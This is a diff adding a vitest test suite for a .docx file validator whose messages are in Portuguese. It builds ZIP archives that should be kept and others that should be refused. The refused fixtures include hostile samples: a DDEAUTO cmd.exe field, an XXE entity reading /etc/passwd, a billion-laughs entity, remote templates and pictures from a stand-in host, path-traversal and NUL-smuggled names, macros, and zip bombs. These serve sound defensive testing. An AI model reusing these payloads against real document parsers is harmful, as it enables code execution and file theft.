@@ -1,0 +1,223 @@
+import { deflateRawSync, crc32 } from 'node:zlib'
+import { describe, expect, test } from 'vitest'
+import { findProblemOfDocx } from './docx.ts'
+
+type Part = {
+  name: string
+  content: string | Buffer
+  stored?: boolean
+  flags?: number
+  size?: number
+  localName?: string
+  method?: number
+}
+
+/** An archive as programs write it; each field may lie. */
+function zip(
+  parts: readonly Part[],
+  { comment = '', before = '', count }: { comment?: string; before?: string; count?: number } = {},
+) {
+  const chunks: Buffer[] = [Buffer.from(before, 'latin1')]
+  const table: Buffer[] = []
+  let at = before.length
+  for (const { name, content, stored = false, flags = 0, size, localName = name, method = stored ? 0 : 8 } of parts) {
+    const plain = Buffer.from(content as string)
+    const data = stored ? plain : deflateRawSync(plain)
+    const local = Buffer.alloc(30)
+    local.writeUInt32BE(0x504b_0304)
+    local.writeUInt16LE(flags, 6)
+    local.writeUInt16LE(method, 8)
+    local.writeUInt32LE(data.length, 18)
+    local.writeUInt32LE(size ?? plain.length, 22)
+    local.writeUInt16LE(localName.length, 26)
+    const head = Buffer.alloc(46)
+    head.writeUInt32BE(0x504b_0102)
+    head.writeUInt16LE(flags, 8)
+    head.writeUInt16LE(method, 10)
+    head.writeUInt32LE(typeof crc32 === 'function' ? crc32(plain) : 0, 16)
+    head.writeUInt32LE(data.length, 20)
+    head.writeUInt32LE(size ?? plain.length, 24)
+    head.writeUInt16LE(name.length, 28)
+    head.writeUInt32LE(at, 42)
+    table.push(Buffer.concat([head, Buffer.from(name, 'latin1')]))
+    chunks.push(local, Buffer.from(localName, 'latin1'), data)
+    at += 30 + localName.length + data.length
+  }
+  const whole = Buffer.concat(table)
+  const end = Buffer.alloc(22)
+  end.writeUInt32BE(0x504b_0506)
+  end.writeUInt16LE(count ?? parts.length, 8)
+  end.writeUInt16LE(count ?? parts.length, 10)
+  end.writeUInt32LE(whole.length, 12)
+  end.writeUInt32LE(at, 16)
+  end.writeUInt16LE(comment.length, 20)
+  return Buffer.concat([...chunks, whole, end, Buffer.from(comment, 'latin1')])
+}
+
+const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+const TYPES =
+  `${XML}<Types><Override PartName="/word/document.xml" ` +
+  'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+const body = (inside: string) => `${XML}<w:document xmlns:w="w"><w:body><w:p>${inside}</w:p></w:body></w:document>`
+const relations = (inside: string) => `${XML}<Relationships>${inside}</Relationships>`
+const KIND = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const relation = (type: string, target: string, mode = '') =>
+  `<Relationship Id="r1" Type="${KIND}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`
+const types: Part = { name: '[Content_Types].xml', content: TYPES }
+const word = (inside = '<w:r><w:t>Ana Lima, analista.</w:t></w:r>'): Part => ({
+  name: 'word/document.xml',
+  content: body(inside),
+})
+const rels = (inside: string): Part => ({ name: 'word/_rels/document.xml.rels', content: relations(inside) })
+const root: Part = { name: '_rels/.rels', content: relations(relation('officeDocument', 'word/document.xml')) }
+const docx = (...more: Part[]) => zip([types, root, word(), ...more])
+const check = (bytes: Buffer) => findProblemOfDocx(Uint8Array.from(bytes))
+
+describe('a document that shows text and pictures', () => {
+  test.each([
+    ['a plain one', docx()],
+    [
+      'with parts that are not compressed',
+      zip([
+        { ...types, stored: true },
+        { ...word(), stored: true },
+      ]),
+    ],
+    [
+      'with a picture, a font and properties',
+      docx(
+        { name: 'word/media/image1.png', content: Buffer.from([137, 80, 78, 71]) },
+        { name: 'word/fonts/font1.odttf', content: 'x' },
+        { name: 'docProps/app.xml', content: `${XML}<Properties/>` },
+      ),
+    ],
+    [
+      'with links',
+      docx(
+        rels(
+          relation('hyperlink', 'https://linkedin.com/in/ana', 'External') +
+            relation('hyperlink', 'mailto:ana@x.example', 'External') +
+            relation('image', 'media/image1.png'),
+        ),
+      ),
+    ],
+    ['with a page number', zip([types, word('<w:instrText>PAGE</w:instrText>')])],
+    ['with a folder', docx({ name: 'word/', content: '', stored: true })],
+  ])('%s is kept', async (_, bytes) => {
+    expect(await check(bytes)).toBeNull()
+  })
+})
+
+describe('is refused', () => {
+  test.each<[string, Buffer, RegExp]>([
+    ['nothing', Buffer.alloc(0), /não é um documento/],
+    ['a page', Buffer.from('<!doctype html><script>alert(1)</script>'.padEnd(60)), /não é um documento/],
+    ['a PDF', Buffer.from(`%PDF-1.7\n${' '.repeat(60)}`), /não é um documento/],
+    ['an old .doc, or one with a password', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(600)]), /antigo/],
+    ['half of one', docx().subarray(0, 200), /incompleto/],
+    ['any other archive', zip([{ name: 'a.xml', content: 'x' }]), /não é um documento/],
+    ['an archive with a program', zip([{ name: 'virus.exe', content: 'MZ' }]), /programa/],
+    [
+      'an Android app',
+      zip([
+        { name: 'AndroidManifest.xml', content: 'x' },
+        { name: 'classes.dex', content: 'x' },
+      ]),
+      /outro arquivo|não é/,
+    ],
+    [
+      'a spreadsheet',
+      zip([{ ...types, content: TYPES.replaceAll('wordprocessingml', 'spreadsheetml') }, word()]),
+      /não é um documento/,
+    ],
+    ['one with a program before it', zip([types, word()], { before: 'MZ\u0090\u0000' }), /não é um documento/],
+    ['one with a page in its comment', zip([types, word()], { comment: '<html>' }), /depois do fim/],
+    ['one with an archive behind it', Buffer.concat([docx(), Buffer.from('PK\u0003\u0004'.padEnd(40))]), /depois do fim/],
+    ['a macro', docx({ name: 'word/vbaProject.bin', content: 'x' }), /macro/],
+    [
+      'a macro by its type',
+      zip([
+        {
+          ...types,
+          content: TYPES.replace(
+            'document.main+xml"',
+            'document.main+xml" x="application/vnd.ms-word.document.macroEnabled.main+xml"',
+          ),
+        },
+        word(),
+      ]),
+      /macro/,
+    ],
+    ['an ActiveX control', docx({ name: 'word/activeX/activeX1.xml', content: `${XML}<x/>` }), /macro/],
+    ['an embedded object', docx({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), /outro arquivo/],
+    ['an embedded spreadsheet', docx({ name: 'word/embeddings/planilha.xlsx', content: 'PK' }), /outro arquivo/],
+    ['an embedded page', docx({ name: 'word/afchunk.html', content: '<script>' }), /outro arquivo/],
+    ['a page brought in by its text', zip([types, word('<w:altChunk r:id="r1"/>')]), /outro arquivo/],
+    [
+      'a template from elsewhere',
+      docx(rels(relation('attachedTemplate', 'https://mau.example/t.dotm', 'External'))),
+      /outro arquivo/,
+    ],
+    ['a picture from elsewhere', docx(rels(relation('image', 'https://mau.example/p.png', 'External'))), /busca algo/],
+    ['the same by a path of the network', docx(rels(relation('image', '\\\\mau.example\\p', ''))), /busca algo/],
+    [
+      'the same with escaped letters',
+      docx(rels(`<Relationship Type="${KIND}/image" Target="https://mau.example" TargetMode="Ext&#101;rnal"/>`)),
+      /por inteiro/,
+    ],
+    ['a link that runs', docx(rels(relation('hyperlink', 'file:///c:/windows/system32/cmd.exe', 'External'))), /busca algo/],
+    ['DDE', zip([types, word('<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>')]), /busca algo/],
+    ['DDE in pieces', zip([types, word('<w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText>')]), /busca algo/],
+    [
+      'a simple field that fetches',
+      zip([types, word('<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://mau.example&quot;"/>')]),
+      /busca algo/,
+    ],
+    [
+      'an entity that fetches a file',
+      zip([
+        types,
+        { name: 'word/document.xml', content: `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${body('&a;')}` },
+      ]),
+      /busca algo/,
+    ],
+    [
+      'a billion laughs',
+      zip([types, { name: 'word/document.xml', content: `${XML}<!DOCTYPE l [<!ENTITY l "lol">]>${body('&l;')}` }]),
+      /busca algo/,
+    ],
+    [
+      'text of another encoding',
+      zip([types, { name: 'word/document.xml', content: Buffer.from(`\uFEFF${body('x')}`, 'utf16le') }]),
+      /por inteiro/,
+    ],
+    [
+      'text that says another encoding',
+      zip([types, { name: 'word/document.xml', content: body('x').replace('UTF-8', 'UTF-7') }]),
+      /por inteiro/,
+    ],
+    ['a part with a password', zip([types, { ...word(), flags: 1 }]), /senha/],
+    ['a name that leaves its folder', docx({ name: 'word/../../evil.xml', content: 'x' }), /por inteiro/],
+    ['an absolute name', docx({ name: '/etc/x.xml', content: 'x' }), /por inteiro/],
+    ['a name of Windows', docx({ name: 'word\\..\\x.xml', content: 'x' }), /por inteiro/],
+    ['a name with a NUL', docx({ name: 'word/x.xml\u0000.exe', content: 'x' }), /por inteiro/],
+    ['two parts of one name', docx({ name: 'Word/Document.xml', content: body('x') }), /por inteiro/],
+    ['another name in the part itself', zip([types, { ...word(), localName: 'word/documenx.xml' }]), /por inteiro/],
+    ['a count that lies', zip([types, word()], { count: 1 }), /por inteiro/],
+    ['a size that lies', zip([types, { ...word(), size: 10 }]), /por inteiro/],
+    ['a method that nobody knows', zip([types, { ...word(), method: 12 }]), /por inteiro/],
+    ['a bomb', docx({ name: 'word/media/image1.png', content: Buffer.alloc(70_000_000) }), /grande demais/],
+    [
+      'a bomb that says it is small',
+      docx({ name: 'word/media/image1.png', content: Buffer.alloc(20_000_000), size: 1000 }),
+      /por inteiro/,
+    ],
+    [
+      'a thousand parts',
+      zip([types, word(), ...Array.from({ length: 1000 }, (_, n) => ({ name: `word/x${n}.xml`, content: '<x/>' }))]),
+      /grande demais/,
+    ],
+  ])('%s', async (_, bytes, why) => {
+    expect(await check(bytes)).toMatch(why)
+  })
+})
